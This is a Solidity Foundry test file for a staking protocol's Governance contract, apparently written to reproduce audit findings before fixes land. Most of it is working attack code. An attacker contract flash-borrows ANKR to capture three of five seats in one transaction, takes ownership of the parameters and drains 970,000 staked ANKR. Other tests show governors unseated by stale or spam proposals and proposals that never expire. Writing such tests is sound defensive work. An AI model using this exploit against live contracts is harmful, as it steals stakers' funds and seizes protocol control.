// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Errors} from "@openzeppelin/contracts/interfaces/draft-IERC6093.sol";
import {IParameters} from "../../src/interfaces/IParameters.sol";
import {Governance, IDelegatedVotes} from "../../src/Governance.sol";
import {NodeRegistry} from "../../src/NodeRegistry.sol";
import {IGovernance} from "../../src/interfaces/IGovernance.sol";
import {Protocol} from "../utils/Protocol.sol";
import {FlashLender, IFlashBorrower, Puppet} from "../utils/FlashLender.sol";

/// An attacker's contract: three candidate accounts it controls, and the one transaction that lends them
/// weight for `elect()` and takes it back.
contract ElectionCapturer is IFlashBorrower {
    Governance internal immutable gov;
    NodeRegistry internal immutable nodes;
    IERC20 internal immutable ankr;
    FlashLender internal immutable lender;
    uint256 internal immutable nodeId;
    address internal immutable attacker;
    Puppet[3] public puppets;

    constructor(Governance gov_, NodeRegistry nodes_, IERC20 ankr_, FlashLender lender_, uint256 nodeId_) {
        gov = gov_;
        nodes = nodes_;
        ankr = ankr_;
        lender = lender_;
        nodeId = nodeId_;
        attacker = msg.sender;
        for (uint256 i = 0; i < 3; ++i) {
            puppets[i] = new Puppet();
        }
        ankr_.approve(address(nodes_), type(uint256).max);
    }

    /// The attacker acts through candidate `i`.
    function act(uint256 i, address target, bytes calldata data) external returns (bytes memory) {
        require(msg.sender == attacker, "not attacker");
        return puppets[i].exec(target, data);
    }

    /// One transaction: borrow, weigh in, elect, unweigh, repay.
    function capture(uint256 amount) external {
        require(msg.sender == attacker, "not attacker");
        lender.flashLoan(amount);
    }

    function onFlashLoan(uint256 amount) external {
        require(msg.sender == address(lender), "not lender");
        uint256 each = amount / 3;
        // Candidates 0 and 1: the borrowed ANKR staked as their own.
        for (uint256 i = 0; i < 2; ++i) {
            require(ankr.transfer(address(puppets[i]), each), "transfer");
            puppets[i].exec(address(gov), abi.encodeCall(Governance.stake, (each)));
        }
        // Candidate 2: the borrowed ANKR staked on a sidecar and delegated to it.
        nodes.stakeOnSidecar(nodeId, each);
        nodes.delegate(address(puppets[2]));

        gov.elect();

        for (uint256 i = 0; i < 2; ++i) {
            puppets[i].exec(address(gov), abi.encodeCall(Governance.unstake, (each)));
            puppets[i].exec(address(ankr), abi.encodeCall(IERC20.transfer, (address(this), each)));
        }
        nodes.unstakeFromSidecar(nodeId, each);
        require(ankr.transfer(address(lender), amount), "repay");
    }
}

/// The governance findings of issue 15, each performed against today's contracts. Every test PASSES
/// today by asserting the damage; once the contracts follow the issue's "Deliver" items, each attack must
/// fail and its assertions flip.
contract GovernanceAttacksTest is Protocol {
    Governance internal gov;
    address[] internal invited;
    uint256 internal constant MIN = 100_000 ether;

    function setUp() public {
        deployProtocol();
        invited.push(member("inv1"));
        invited.push(member("inv2"));
        invited.push(member("inv3"));
        gov = new Governance(
            params, ankr, IDelegatedVotes(address(nodes)), address(insurance), address(rewardPool), invited
        );
        for (uint256 i = 0; i < invited.length; i++) {
            vm.prank(invited[i]);
            ankr.approve(address(gov), type(uint256).max);
        }
    }

    function member(string memory name) internal returns (address who) {
        who = makeAddr(name);
        ankr.mint(who, 1_000_000 ether);
    }

    function joinAll() internal {
        for (uint256 i = 0; i < invited.length; i++) {
            vm.prank(invited[i]);
            gov.acceptInvitation(MIN);
        }
    }

    function candidate(string memory name, uint256 amount) internal returns (address who) {
        who = member(name);
        vm.startPrank(who);
        ankr.approve(address(gov), type(uint256).max);
        gov.stake(amount);
        gov.applyAsCandidate();
        vm.stopPrank();
    }

    function handOver() internal {
        vm.prank(governance);
        params.transferGovernance(address(gov));
    }

    function proposeAuditK(uint256 k) internal returns (uint256 id) {
        vm.prank(invited[0]);
        id = gov.propose(address(params), abi.encodeCall(params.set, (IParameters.Key.AuditK, k)), "audit k");
    }

    function voteAs(uint256 id, address who, bool support) internal {
        vm.prank(who);
        gov.vote(id, support);
    }

    function assertGovernors(address[] memory expected) internal view {
        address[] memory g = gov.governors();
        assertEq(g.length, expected.length, "seat count");
        for (uint256 i = 0; i < expected.length; i++) {
            assertEq(g[i], expected[i], string.concat("seat ", vm.toString(i)));
        }
    }

    function list(address a, address b, address c) internal pure returns (address[] memory l) {
        l = new address[](3);
        (l[0], l[1], l[2]) = (a, b, c);
    }

    function list(address a, address b, address c, address d, address e)
        internal
        pure
        returns (address[] memory l)
    {
        l = new address[](5);
        (l[0], l[1], l[2], l[3], l[4]) = (a, b, c, d, e);
    }

    function activeNode() internal returns (uint256 nodeId) {
        address provider = qualifiedProvider("provider", IParameters.TrustLevel.Trusted);
        vm.prank(provider);
        nodeId = nodes.registerNode(makeAddr("sidecar"), "https://node", capacity());
    }

    /// Finding 1 (critical): election capture with one block of borrowed ANKR.
    /// 1. The attacker holds three candidates with the 100,000 ANKR minimum each (300,000 of its own).
    ///    The honest side: three invited governors (100,000 each), governors c1 (150,000) and c2 (120,000)
    ///    seated by the transition, candidate c3 (100,000).
    /// 2. When the automated election is due, ONE transaction flash-borrows 300,000 ANKR, stakes 100,000
    ///    on candidates 0 and 1 and delegates 100,000 staked on a sidecar to candidate 2, calls `elect()`
    ///    (each candidate weighs 200,000 at that instant), unstakes everything and repays the loan.
    /// 3. The attacker holds 3 of the 5 seats, so 3 of 5 votes reach quorum and majority: it passes
    ///    `params.transferGovernance(attacker)` and `ankr.transfer(attacker, 970,000)`, all the ANKR staked
    ///    in Governance. The honest governors' and candidates' 670,000 ANKR are gone; their books still
    ///    say staked, and unstaking reverts.
    /// Deliver 1: "Election weights from checkpoints (the OpenZeppelin `Votes`/`Checkpoints` pattern), read
    /// at a snapshot fixed before an election can be called; candidate stakes and ANKR delegated to a
    /// candidate are locked from that snapshot until the election is done." Deliver 2: "Staked ANKR held
    /// where executed proposals cannot reach it (a vault separate from the executor), and a timelock
    /// between a passed proposal and its execution, with an expiry". The fixed contract must elect the
    /// honest five (the flash stake weighs nothing at the snapshot), and the drain must move no staked ANKR.
    function test_Attack_FlashLoanElection_Wins3Of5SeatsDrains670kHonestAnkrOwnsParameters() public {
        uint256 nodeId = activeNode(); // any running node takes sidecar stakes
        joinAll();
        handOver();
        vm.warp(block.timestamp + 30 days);
        address c1 = candidate("c1", 150_000 ether);
        address c2 = candidate("c2", 120_000 ether);
        address c3 = candidate("c3", MIN);

        address attacker = makeAddr("attacker");
        FlashLender lender = new FlashLender(ankr);
        ankr.mint(address(lender), 10_000_000 ether);
        vm.prank(attacker);
        ElectionCapturer capturer = new ElectionCapturer(gov, nodes, ankr, lender, nodeId);
        address[3] memory p;
        for (uint256 i = 0; i < 3; i++) {
            p[i] = address(capturer.puppets(i));
            ankr.mint(p[i], MIN); // the attacker's own capital
            vm.startPrank(attacker);
            capturer.act(i, address(ankr), abi.encodeCall(IERC20.approve, (address(gov), type(uint256).max)));
            capturer.act(i, address(gov), abi.encodeCall(Governance.stake, (MIN)));
            capturer.act(i, address(gov), abi.encodeCall(Governance.applyAsCandidate, ()));
            vm.stopPrank();
        }
        gov.elect(); // the transition seats the two heaviest candidates: c1 and c2
        assertGovernors(list(invited[0], invited[1], invited[2], c1, c2));

        vm.warp(block.timestamp + 90 days);
        vm.prank(attacker);
        capturer.capture(300_000 ether); // one transaction

        assertGovernors(list(p[2], p[1], p[0], c1, c2));
        for (uint256 i = 0; i < 3; i++) {
            assertEq(gov.weightOf(p[i]), MIN, "seated at 100,000, as light as each unseated honest member");
            assertFalse(gov.memberOf(invited[i]).governor, "invited governor unseated");
        }
        assertEq(ankr.balanceOf(address(lender)), 10_000_000 ether, "the loan was repaid in the transaction");
        assertEq(ankr.balanceOf(address(capturer)), 0);

        uint256 held = ankr.balanceOf(address(gov));
        assertEq(held, 970_000 ether, "300,000 invited + 150,000 + 120,000 + 100,000 c3 + 300,000 attacker");
        vm.startPrank(attacker);
        capturer.act(
            0,
            address(gov),
            abi.encodeCall(
                Governance.propose,
                (address(params), abi.encodeCall(params.transferGovernance, (attacker)), "hand over")
            )
        );
        capturer.act(
            0,
            address(gov),
            abi.encodeCall(
                Governance.propose,
                (address(ankr), abi.encodeCall(IERC20.transfer, (attacker, held)), "drain")
            )
        );
        for (uint256 i = 0; i < 3; i++) {
            capturer.act(i, address(gov), abi.encodeCall(Governance.vote, (1, true)));
            capturer.act(i, address(gov), abi.encodeCall(Governance.vote, (2, true)));
        }
        vm.stopPrank();
        vm.warp(block.timestamp + 3 days);
        gov.execute(1);
        gov.execute(2);

        assertEq(params.governance(), attacker, "the attacker owns Parameters");
        assertEq(ankr.balanceOf(address(gov)), 0, "every staked ANKR left Governance");
        assertEq(ankr.balanceOf(attacker), 970_000 ether, "its own 300,000 + 670,000 of honest stakes");
        uint256 honestBooks = gov.memberOf(invited[0]).stake + gov.memberOf(invited[1]).stake
            + gov.memberOf(invited[2]).stake + gov.memberOf(c1).stake + gov.memberOf(c2).stake
            + gov.memberOf(c3).stake;
        assertEq(honestBooks, 670_000 ether, "the books still say staked");
        vm.startPrank(invited[0]);
        gov.withdrawCandidacy();
        vm.expectRevert(
            abi.encodeWithSelector(IERC20Errors.ERC20InsufficientBalance.selector, address(gov), 0, MIN)
        );
        gov.unstake(MIN);
        vm.stopPrank();
        vm.startPrank(c3);
        gov.withdrawCandidacy();
        vm.expectRevert(
            abi.encodeWithSelector(IERC20Errors.ERC20InsufficientBalance.selector, address(gov), 0, MIN)
        );
        gov.unstake(MIN);
        vm.stopPrank();
    }

    /// Finding 2: stale proposals unseat new governors.
    /// 1. On day 29 the three invited governors open three proposals (AuditK 4, 5, 6) and all vote yes.
    /// 2. On day 30 the transition election seats c1 (150,000) and c2 (120,000); voting is still open, but
    ///    they were not governors when the proposals opened.
    /// 3. On day 32 anyone finalizes proposals 1 and 2 and executes proposal 3 (an honest, passed one):
    ///    each of c1 and c2 has "missed" three votes, is slashed 10,000 ANKR and removed.
    /// Deliver 3: "A missed vote counts only against a governor seated for the whole voting window and only
    /// on a proposal that reached quorum". The fixed contract must leave c1 and c2 seated with their stakes.
    function test_Attack_StaleProposals_Slash10kEachFromTwoNewGovernorsAndUnseatThem() public {
        joinAll();
        handOver();
        vm.warp(block.timestamp + 29 days);
        for (uint256 r = 0; r < 3; r++) {
            uint256 id = proposeAuditK(4 + r);
            for (uint256 i = 0; i < 3; i++) {
                voteAs(id, invited[i], true);
            }
        }
        vm.warp(block.timestamp + 1 days);
        address c1 = candidate("c1", 150_000 ether);
        address c2 = candidate("c2", 120_000 ether);
        gov.elect();
        assertGovernors(list(invited[0], invited[1], invited[2], c1, c2));
        uint256 insuranceBefore = ankr.balanceOf(address(insurance));

        vm.warp(block.timestamp + 2 days);
        gov.finalize(1);
        gov.finalize(2);
        assertEq(gov.memberOf(c1).missedInRow, 2, "two proposals it could never have voted on");
        gov.execute(3); // executing an honest proposal does it by accident

        assertEq(params.get(IParameters.Key.AuditK), 6);
        assertGovernors(list(invited[0], invited[1], invited[2]));
        assertEq(gov.memberOf(c1).stake, 140_000 ether, "c1 slashed 10,000");
        assertEq(gov.memberOf(c2).stake, 110_000 ether, "c2 slashed 10,000");
        assertFalse(gov.memberOf(c1).governor || gov.memberOf(c1).candidate, "c1 out of governance");
        assertFalse(gov.memberOf(c2).governor || gov.memberOf(c2).candidate, "c2 out of governance");
        assertEq(ankr.balanceOf(address(insurance)) - insuranceBefore, 20_000 ether);
    }

    /// Finding 3: spam as a weapon.
    /// 1. Governor inv1 opens three free no-op proposals (a call to `params.get`) and votes yes on each;
    ///    inv2 and inv3 do not bother voting on spam.
    /// 2. Three days later inv1 finalizes them: inv2 and inv3 missed three in a row, are slashed 10,000
    ///    ANKR each and removed, although none of the spam reached quorum (1 vote of 3 seats).
    /// 3. inv1, alone, proposes `params.transferGovernance(inv1)`, votes yes (quorum 1 of 1) and executes it.
    /// Deliver 3: "A missed vote counts only against a governor seated for the whole voting window and only
    /// on a proposal that reached quorum; quorum measured against the 2n+1 seats; a proposal bond and a
    /// per-governor limit on open proposals". The fixed contract must keep inv2 and inv3 seated and unslashed,
    /// and a lone governor must never reach quorum.
    function test_Attack_SpamProposals_RemoveTwoGovernorsThenSurvivorTakesParameters() public {
        joinAll();
        handOver();
        address rogue = invited[0];
        uint256 insuranceBefore = ankr.balanceOf(address(insurance));
        for (uint256 r = 0; r < 3; r++) {
            vm.prank(rogue);
            uint256 id = gov.propose(
                address(params), abi.encodeCall(params.get, (IParameters.Key.AuditK)), "nothing to see"
            );
            voteAs(id, rogue, true);
        }
        vm.warp(block.timestamp + 3 days);
        for (uint256 id = 1; id <= 3; id++) {
            assertFalse(gov.passed(id), "the spam never reached quorum");
            vm.prank(rogue);
            gov.finalize(id);
        }
        address[] memory alone = new address[](1);
        alone[0] = rogue;
        assertGovernors(alone);
        assertEq(gov.memberOf(invited[1]).stake, 90_000 ether, "inv2 slashed 10,000");
        assertEq(gov.memberOf(invited[2]).stake, 90_000 ether, "inv3 slashed 10,000");
        assertEq(ankr.balanceOf(address(insurance)) - insuranceBefore, 20_000 ether);

        vm.prank(rogue);
        uint256 takeover =
            gov.propose(address(params), abi.encodeCall(params.transferGovernance, (rogue)), "mine");
        voteAs(takeover, rogue, true);
        vm.warp(block.timestamp + 3 days);
        assertEq(gov.getProposal(takeover).seats, 1, "quorum 1 of 1");
        gov.execute(takeover);
        assertEq(params.governance(), rogue, "one governor owns Parameters");
    }

    /// Finding 4a: an invited account accepting its invitation after the initialization phase, while it is
    /// also a candidate, was seated twice (five seats, four people). Deliver 3: "invitations accepted only
    /// in the initialization phase, one seat per account": the late acceptance is refused and inv3 stands
    /// as the candidate it is, seated once.
    function test_Attack_LateInvitation_IsRefused_OneSeatPerAccount() public {
        for (uint256 i = 0; i < 2; i++) {
            vm.prank(invited[i]);
            gov.acceptInvitation(MIN);
        }
        vm.warp(block.timestamp + 30 days);
        address inv3 = invited[2];
        vm.startPrank(inv3);
        gov.stake(300_000 ether);
        gov.applyAsCandidate();
        assertEq(uint8(gov.phase()), uint8(IGovernance.Phase.Transition));
        vm.expectRevert(
            abi.encodeWithSelector(IGovernance.GovernanceWrongPhase.selector, IGovernance.Phase.Transition)
        );
        gov.acceptInvitation(0);
        vm.stopPrank();
        assertFalse(gov.memberOf(inv3).governor, "not seated by the late invitation");
        address c1 = candidate("c1", 150_000 ether);
        address c2 = candidate("c2", 120_000 ether);
        gov.elect();

        // The transition adds the n = 2 heaviest candidates to the two invited governors who joined.
        address[] memory seated = gov.governors();
        assertEq(seated.length, 4);
        address[4] memory expected = [invited[0], invited[1], inv3, c1];
        for (uint256 e = 0; e < 4; e++) {
            uint256 seats;
            for (uint256 g = 0; g < 4; g++) {
                if (seated[g] == expected[e]) seats++;
            }
            assertEq(seats, 1, "every governor holds exactly one seat");
        }
        assertEq(gov.candidates().length, 1);
        assertEq(gov.candidates()[0], c2);
    }

    /// Finding 4b: a proposal's tally mixes two governments across an election.
    /// 1. On day 29 inv1 opens a proposal (AuditK 4) under a government of 3 seats and votes yes; inv2 and
    ///    inv3 do not vote: 1 of 3, no quorum.
    /// 2. On day 30 the transition seats c1 and c2, who vote yes on the still-open proposal.
    /// 3. It passes with 3 yes against its 3 recorded seats although 5 were filled when it closed and only
    ///    1 of the 3 governors who opened it voted, and it executes.
    /// Deliver 3: "A missed vote counts only against a governor seated for the whole voting window" and
    /// Deliver 1's snapshot: the fixed contract must let only the government seated at the proposal's
    /// snapshot vote on it (c1's and c2's votes revert), so the proposal fails for lack of quorum.
    function test_Attack_TallyAcrossElection_PassesWith1Of3OpeningVotesPlus2NewGovernors() public {
        joinAll();
        handOver();
        vm.warp(block.timestamp + 29 days);
        uint256 id = proposeAuditK(4);
        voteAs(id, invited[0], true);
        vm.warp(block.timestamp + 1 days);
        address c1 = candidate("c1", 150_000 ether);
        address c2 = candidate("c2", 120_000 ether);
        gov.elect();
        voteAs(id, c1, true);
        voteAs(id, c2, true);
        vm.warp(block.timestamp + 2 days);

        IGovernance.Proposal memory p = gov.getProposal(id);
        assertEq(p.yes, 3);
        assertEq(p.seats, 3, "the seats of the first government");
        assertEq(gov.governors().length, 5, "the seats of the second");
        assertTrue(gov.passed(id));
        gov.execute(id);
        assertEq(params.get(IParameters.Key.AuditK), 4);
    }

    /// Finding 4c: passed proposals never expire.
    /// 1. inv1 and inv2 pass a proposal (AuditK 4) and nobody executes it.
    /// 2. Two elections later (the transition, then an automated one won by c1..c5) neither of its voters
    ///    holds a seat.
    /// 3. 368 days after it closed, anyone executes it and the parameter changes.
    /// Deliver 2: "a timelock between a passed proposal and its execution, with an expiry; both bounded
    /// parameters". The fixed contract must revert the late `execute` (expired) and leave AuditK at 3.
    function test_Attack_PassedProposal_Executes368DaysLaterWithNoneOfItsVotersSeated() public {
        joinAll();
        handOver();
        uint256 id = proposeAuditK(4);
        voteAs(id, invited[0], true);
        voteAs(id, invited[1], true);
        vm.warp(block.timestamp + 3 days);
        assertTrue(gov.passed(id));

        vm.warp(block.timestamp + 27 days);
        address[] memory c = new address[](5);
        for (uint256 i = 0; i < 5; i++) {
            c[i] = candidate(string.concat("c", vm.toString(i + 1)), 500_000 ether - i * 50_000 ether);
        }
        gov.elect();
        vm.warp(block.timestamp + 90 days);
        gov.elect();
        assertFalse(gov.memberOf(invited[0]).governor, "voter inv1 unseated");
        assertFalse(gov.memberOf(invited[1]).governor, "voter inv2 unseated");

        vm.warp(block.timestamp + 248 days); // 368 days after the vote closed
        assertEq(params.get(IParameters.Key.AuditK), 3);
        gov.execute(id);
        assertEq(params.get(IParameters.Key.AuditK), 4, "executed a year late");
    }

    /// Finding 4d: ex-governors grow the candidate list past its cap.
    /// 1. In the transition 100 candidates apply (the cap, `MAX_CANDIDATES`); the election seats 2, two more
    ///    apply to fill the list again, and the 101st is refused.
    /// 2. The five governors pass `GovernorSeatsN = 1` (3 seats).
    /// 3. The automated election turns all 5 governors into candidates without checking the cap and seats
    ///    3: the list holds 102 candidates. (With n unchanged the list stays at 100, since as many leave it
    ///    as join; a seat count lowered by governance, or an account seated twice as in 4a, grows it.)
    /// Deliver 3's rule that every list keeps its bound, and the issue's invariant "never more than 2n+1
    /// seats": the fixed contract must never hold more than `MAX_CANDIDATES` candidates (ex-governors
    /// beyond the cap drop out of the list, heaviest kept).
    function test_Attack_ExGovernors_GrowCandidateListTo102PastItsCapOf100() public {
        joinAll();
        handOver();
        vm.warp(block.timestamp + 30 days);
        uint256 cap = gov.MAX_CANDIDATES();
        for (uint256 i = 0; i < cap; i++) {
            candidate(string.concat("cand", vm.toString(i)), MIN + i * 1 ether);
        }
        gov.elect();
        candidate("late1", MIN);
        candidate("late2", MIN);
        assertEq(gov.candidates().length, cap);
        address extra = member("extra");
        vm.startPrank(extra);
        ankr.approve(address(gov), type(uint256).max);
        gov.stake(MIN);
        vm.expectRevert(IGovernance.GovernanceTooManyCandidates.selector);
        gov.applyAsCandidate();
        vm.stopPrank();

        vm.prank(invited[0]);
        uint256 id = gov.propose(
            address(params), abi.encodeCall(params.set, (IParameters.Key.GovernorSeatsN, 1)), "n = 1"
        );
        for (uint256 i = 0; i < 3; i++) {
            voteAs(id, invited[i], true);
        }
        vm.warp(block.timestamp + 3 days);
        gov.execute(id);

        vm.warp(gov.nextElectionAt());
        gov.elect();
        assertEq(gov.governors().length, 3, "2n + 1 with n = 1");
        assertEq(gov.candidates().length, 102, "two past the cap of 100");
    }
}
